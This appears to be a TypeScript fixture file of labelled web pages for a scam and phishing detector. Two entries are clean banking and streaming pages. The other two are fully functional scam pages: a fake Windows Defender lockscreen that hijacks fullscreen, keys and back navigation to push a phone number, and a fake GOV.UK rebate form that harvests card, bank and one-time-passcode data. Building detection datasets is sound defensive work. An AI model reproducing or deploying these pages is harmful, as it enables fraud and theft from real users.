import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, footer, nav, tracker, trackerRoute, pngRoute, jsRoute, jsonRoute, fileRoute } from '../parts/p-kit.js';
import { beepWav } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'p-scam-techsupport-locker-defender-us',
  label: 'scam',
  kind: 'tech-support',
  url: 'https://win-security-alert-0x80072ee7.azureedge-support.net/?ph=18885550173&cid=ppc77',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Windows Defender - Security Warning</title>
<style>body{margin:0;font-family:Segoe UI,Arial;background:#0078d7;color:#fff;overflow:hidden}.top{background:#fff;color:#000;padding:6px 12px;font-size:13px}.m{position:absolute;top:12%;left:50%;transform:translateX(-50%);width:640px;max-width:94vw;background:#fff;color:#000;box-shadow:0 0 40px #000}.m h2{background:#d9534f;color:#fff;margin:0;padding:10px 14px;font-size:17px}.m div{padding:16px;font-size:14px}.ph{font-size:24px;font-weight:700;color:#d9534f}.scan{position:absolute;left:20px;bottom:20px;width:360px;background:rgba(0,0,0,.4);padding:10px;font-size:12px}</style></head>
<body><div class="top">⊞ Windows Security · Scan in progress</div>
<div class="scan" id="sc">Scanning: C:\\Windows\\System32\\…</div>
<div class="m"><h2>⚠ Access to this PC has been blocked for security reasons</h2><div>
<p><b>Your computer has alerted us that it has been infected with a Trojan Spyware.</b> The following data has been compromised:</p><p>&gt; Email credentials<br>&gt; Banking passwords<br>&gt; Facebook login<br>&gt; Pictures & documents</p>
<p>Windows Defender scan has found potentially unwanted Adware on this device that can steal your passwords, online identity, financial information, personal files, pictures or documents.</p>
<p>You must contact us immediately so that our engineers can walk you through the removal process over the phone.</p>
<p>Call Microsoft Support: <span class="ph" id="ph"></span> (USA-Toll Free)</p>
<p style="font-size:12px;color:#555">Closing this window will put your personal information at risk and lead to a suspension of your Windows Registration.</p>
<button onclick="fs()" style="background:#0078d7;color:#fff;border:0;padding:8px 20px">Deny</button> <button onclick="fs()" style="background:#0078d7;color:#fff;border:0;padding:8px 20px">Allow</button></div></div>
<audio id="a" src="/alert.wav" loop autoplay></audio>
<script>
var q=new URLSearchParams(location.search);var n=(q.get('ph')||'18885550173').replace(/(\\d)(\\d{3})(\\d{3})(\\d{4})/,'+$1 ($2) $3-$4');document.getElementById('ph').textContent=n;document.title='Call '+n+' - Windows Support';
function fs(){var d=document.documentElement;(d.requestFullscreen||d.webkitRequestFullscreen||function(){}).call(d);document.getElementById('a').play().catch(function(){})}
document.addEventListener('click',fs);document.addEventListener('keydown',function(e){e.preventDefault();fs()});
for(var i=0;i<20;i++)history.pushState({},'',location.href);window.onpopstate=function(){history.pushState({},'',location.href)};
window.onbeforeunload=function(){return 'Your computer is at risk!'};
var f=['C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts','C:\\\\Users\\\\Public\\\\Documents','HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\Run','C:\\\\Windows\\\\Temp\\\\svchost32.exe'];var k=0;setInterval(function(){document.getElementById('sc').textContent='Scanning: '+f[k++%f.length]+'  – Threat detected: Trojan:Win32/Wacatac.B!ml'},700);
</script></body></html>`,
  routes: {
    'win-security-alert-0x80072ee7.azureedge-support.net/alert.wav': fileRoute(beepWav(2, 900), 'audio/wav'),
  },
},
{
  id: 'p-phish-energy-rebate-ofgem-uk',
  label: 'phishing',
  kind: 'gov-rebate',
  url: 'https://ofgem-energy-rebate.claim-support.uk.com/apply/',
  body: doc({
    lang: 'en-GB',
    title: 'Energy Bills Support Scheme – Claim your £400 rebate',
    css: '.h{background:#0b0c0c;color:#fff;padding:12px 20px;font-weight:700}.c{max-width:620px;margin:20px auto;padding:0 16px}input{width:100%;padding:10px;margin:4px 0 10px;border:2px solid #0b0c0c}.b{background:#00703c;color:#fff;border:0;padding:11px 20px;font-weight:700}',
    body: `<div class="h">👑 GOV.UK</div>
<div class="c"><h1>Energy Bills Support Scheme</h1><p>You are eligible for a discount of <b>£400</b> on your energy bill this winter under the Energy Bills Support Scheme. Apply before 15 December. The rebate is paid directly to your debit card.</p>
<form id="f"><h2>Your details</h2><input name="name" placeholder="Full name"><input name="dob" placeholder="Date of birth"><input name="addr" placeholder="Address"><input name="pc" placeholder="Postcode"><input name="mob" placeholder="Mobile number"><input name="supplier" placeholder="Energy supplier">
<h2>Where should we pay your rebate?</h2><input name="cn" placeholder="Card number"><input name="exp" placeholder="Expiry date"><input name="cvv" placeholder="Security code (CVV)"><input name="sort" placeholder="Sort code"><input name="acc" placeholder="Account number">
<button class="b">Submit application</button></form>
<p style="font-size:12px;color:#555">© Crown copyright · Ofgem</p></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});fetch('/apply/sub.php',{method:'POST',body:JSON.stringify(o)}).then(function(){location.href='/apply/verify'})}</script>`,
  }),
  routes: {
    'ofgem-energy-rebate.claim-support.uk.com/apply/sub.php': jsonRoute({ ok: 1 }),
    'ofgem-energy-rebate.claim-support.uk.com/apply/verify': htmlRoute('<!DOCTYPE html><html lang="en-GB"><head><meta charset="utf-8"><title>Verify</title></head><body style="font-family:Arial;max-width:500px;margin:40px auto"><h2>Verify it\'s you</h2><p>Enter the one-time passcode your bank sent to your phone to confirm the rebate payment.</p><input placeholder="Passcode" style="padding:10px;width:100%"><button style="margin-top:10px;background:#00703c;color:#fff;border:0;padding:10px 20px">Confirm</button></body></html>'),
  },
},
{
  id: 'p-clean-streaming-payment-update-own-pl',
  label: 'clean',
  kind: 'streaming-billing',
  url: 'https://konto.kinoteka-vod.pl/platnosci/metoda',
  body: doc({
    lang: 'pl',
    title: 'Metoda płatności – Kinoteka',
    css: 'body{background:#141414;color:#eee}.c{max-width:520px;margin:40px auto;background:#1f1f1f;padding:26px;border-radius:8px}input{width:100%;padding:11px;margin:4px 0 10px;background:#2b2b2b;border:1px solid #444;color:#fff;border-radius:4px}',
    body: `${nav('KINOTEKA', ['Filmy', 'Seriale', 'Moja lista', 'Konto'], '#fff', '#000')}
<div class="c"><h2 style="margin-top:0">Zmień metodę płatności</h2><p style="font-size:14px">Obecna metoda: Visa •••• 4417 (wygasa 12/26). Następna płatność 49,99 zł – 5 grudnia.</p>
<input placeholder="Numer karty" autocomplete="cc-number"><div style="display:flex;gap:8px"><input placeholder="MM/RR" autocomplete="cc-exp"><input placeholder="CVC" autocomplete="cc-csc"></div><input placeholder="Imię i nazwisko na karcie" autocomplete="cc-name">
<button style="width:100%;background:#e50914;color:#fff;border:0;padding:12px;border-radius:4px">Zapisz kartę</button>
<p style="font-size:12px;color:#aaa">Możesz też płacić BLIK-iem lub przez Google Pay. Kinoteka nie wysyła SMS-ów z linkami do płatności.</p></div>
${footer([['Kinoteka', 'Regulamin', 'Polityka prywatności', 'Pomoc']], '© 2026 Kinoteka sp. z o.o., Warszawa', '#000')}`,
  }),
},
{
  id: 'p-clean-bank-login-own-ptbr',
  label: 'clean',
  kind: 'own-login',
  url: 'https://internetbanking.bancoserragaucha.com.br/login',
  body: doc({
    lang: 'pt-BR',
    title: 'Internet Banking – Banco Serra Gaúcha',
    css: 'body{background:#eef3f0}.c{max-width:420px;margin:40px auto;background:#fff;padding:28px;border-radius:8px}input{width:100%;padding:12px;margin:4px 0 12px;border:1px solid #b5c4bb;border-radius:6px}',
    body: `${nav('Banco Serra Gaúcha', ['Para você', 'Para sua empresa', 'Cooperativas', 'Ajuda'], '#fff', '#1b5e20')}
<div class="c"><h2 style="margin-top:0">Acesse sua conta</h2><form action="/login" method="post"><label>Agência</label><input name="ag" maxlength="4"><label>Conta</label><input name="conta"><button style="width:100%;background:#1b5e20;color:#fff;border:0;padding:12px;border-radius:6px">Continuar</button></form>
<p style="font-size:13px">Na próxima etapa você digita sua senha pelo teclado virtual.</p>
<p style="font-size:12px;background:#f1f8e9;padding:10px">Segurança: o Banco Serra Gaúcha nunca pede a senha do cartão por telefone, SMS ou WhatsApp, nem pede que você instale aplicativos fora da loja oficial.</p></div>
${footer([['Banco Serra Gaúcha S.A.', 'SAC 0800 000 1212', 'Ouvidoria 0800 000 3434']], '© 2026 Banco Serra Gaúcha S.A. – CNPJ 00.000.123/0001-45')}`,
  }),
},
];
